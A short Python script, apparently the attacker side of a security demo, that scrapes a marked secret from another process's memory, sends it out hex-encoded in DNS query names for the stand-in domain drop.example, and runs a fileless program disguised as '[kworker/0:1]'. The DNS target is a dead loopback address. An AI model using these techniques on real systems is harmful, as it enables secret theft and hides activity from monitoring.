# SPDX-License-Identifier: Apache-2.0
"""The worse part of the demo: takes the (made-up) secret out of the memory of the demo's runner, lets
it out in the names of DNS queries, and runs a program that is no file."""
import os
import re
import socket
import struct
import time

NAME_SERVER = ("127.254.254.254", 53)  # loopback, where nobody listens: nothing gets anywhere
DOMAIN = "drop.example"


def runner():
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{name}/exe") == os.environ["DEMO_RUNNER"]:
                return name
        except OSError:
            continue
    raise SystemExit("no runner")


def secret_of(pid):
    """What stands in its heap between the marks; nothing where the kernel says no."""
    try:
        with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
            areas = [line.split()[0].split("-") for line in maps if "rw-p" in line]
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for start, end in areas:
                memory.seek(int(start, 16))
                found = re.search(rb"<demo>([a-z-]{8,64})</demo>",
                                  memory.read(min(int(end, 16) - int(start, 16), 1 << 24)))
                if found:
                    return found[1]
    except OSError:
        pass
    return b"a-secret-nobody-could-read"


def send(secret):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        for number in range(24):
            labels = (f"{number:02}{secret.hex()[:58]}", *DOMAIN.split("."))
            question = b"".join(bytes([len(label)]) + label.encode() for label in labels)
            out.sendto(struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + question +
                       b"\0\0\x10\0\x01", NAME_SERVER)


def run_from_memory():
    with open("/bin/true", "rb") as file:
        program = file.read()
    memory = os.memfd_create("helper", os.MFD_CLOEXEC)
    os.write(memory, program)
    if (pid := os.fork()) == 0:
        os.execve(memory, ["[kworker/0:1]"], {})
    os.waitpid(pid, 0)


time.sleep(0.1)  # the runner has its secret by then
send(secret_of(runner()))
run_from_memory()
